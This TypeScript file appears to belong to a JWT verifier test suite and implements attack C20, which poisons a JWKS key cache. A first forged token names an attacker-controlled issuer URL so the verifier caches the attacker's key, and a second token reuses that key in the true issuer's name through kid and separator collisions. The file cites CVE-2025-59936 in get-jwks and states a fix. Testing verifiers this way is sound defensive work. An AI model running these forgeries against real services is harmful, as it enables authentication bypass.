import type { Forgery, StagedAttack, VariantResult } from '../attack.ts';
import { attackerForgery, attackerKey, likelyAlg } from '../attacker-forgery.ts';
import { issuerAnswer } from '../attacker-key-set.ts';
import type { Stage } from '../stage.ts';

/** C20. */
export const poisonedKeyCache: StagedAttack = {
  kind: 'staged',
  id: 'C20',
  title: 'A first token puts the attacker’s key into the cache, a second one uses it',
  severity: 'critical',
  cwe: 345,
  source: ['RFC 8725 §3.8', 'RFC 8725 §3.10'],
  how: 'A verifier that fetches keys for whatever issuer the token names, and checks the issuer afterwards, refuses the attacker’s token and keeps his key. Where the cache goes by kid alone, a second token in the true issuer’s name finds that key. Where it goes by kid and issuer joined to one text, the attacker chooses both so that two different pairs are joined to the same text.',
  victims: [{ what: 'get-jwks < 11.0.2', advisory: 'CVE-2025-59936' }],
  fix: 'Compare iss with the configured issuers before anything is fetched. Build cache keys so that no two inputs give one: nested maps, or JSON of an array.',
  needs: ['callback'],
  expect: 'refused',
  play: async (stage) => {
    const { iss } = stage.context.good.payload;
    if (typeof iss !== 'string') return [];
    const results: VariantResult[] = [];
    for (const [variant, pair] of Object.entries(pairsFor(iss)))
      results.push(await playPair(stage, variant, iss, pair));
    return results;
  },
};

/** What the first token names, and by which kid the second asks, once the attacker's address is known. */
interface Pair {
  readonly firstKid: string;
  readonly firstIssuer: (address: URL) => string;
  readonly secondKid: (address: URL) => string;
}

async function playPair(stage: Stage, variant: string, iss: string, pair: Pair): Promise<VariantResult> {
  const { context } = stage;
  const key = await attackerKey(context, likelyAlg(context));
  const { firstKid } = pair;
  const callback = context.callbackUrl?.(variant, (address) => issuerAnswer(key, firstKid, address)) ?? '';
  const address = new URL(callback);
  const first = await attackerForgery(context, key, variant, {
    header: { kid: firstKid },
    claims: { iss: pair.firstIssuer(address) },
  });
  const second: Forgery = await attackerForgery(context, key, variant, { header: { kid: pair.secondKid(address) } });
  // That the first is refused proves nothing: it is there for what it leaves behind. Twice, where a cache needs two.
  await stage.present({ token: first.token });
  const result = await stage.fire(second);
  const fetched = stage.wasAsked(callback);
  return { ...result, evidence: { ...result.evidence, fetched, detail: `the second token, in the name of ${iss}` } };
}

/** The signs that programs put between the parts of a cache key. */
const joints: Readonly<Record<string, string>> = {
  colon: ':',
  'double-colon': '::',
  bar: '|',
  slash: '/',
  dash: '-',
  underscore: '_',
  comma: ',',
  blank: ' ',
  nothing: '',
};

function pairsFor(iss: string): Readonly<Record<string, Pair>> {
  const byKid: Pair = {
    firstKid: 'poison',
    firstIssuer: ({ href }) => href,
    secondKid: () => 'poison',
  };
  const pairs: Record<string, Pair> = { 'by-kid-alone': byKid };
  for (const [name, joint] of Object.entries(joints)) {
    pairs[`kid-${name}-issuer`] = {
      firstKid: `poison-${name}`,
      firstIssuer: ({ href }) => `${href}?${joint}${iss}`,
      secondKid: ({ href }) => `poison-${name}${joint}${href}?`,
    };
    pairs[`issuer-${name}-kid`] = {
      firstKid: `poison-${name}`,
      firstIssuer: ({ host, pathname }) => `${iss}${joint}x@${host}${pathname}?`,
      secondKid: ({ host, pathname }) => `x@${host}${pathname}?${joint}poison-${name}`,
    };
  }
  return pairs;
}
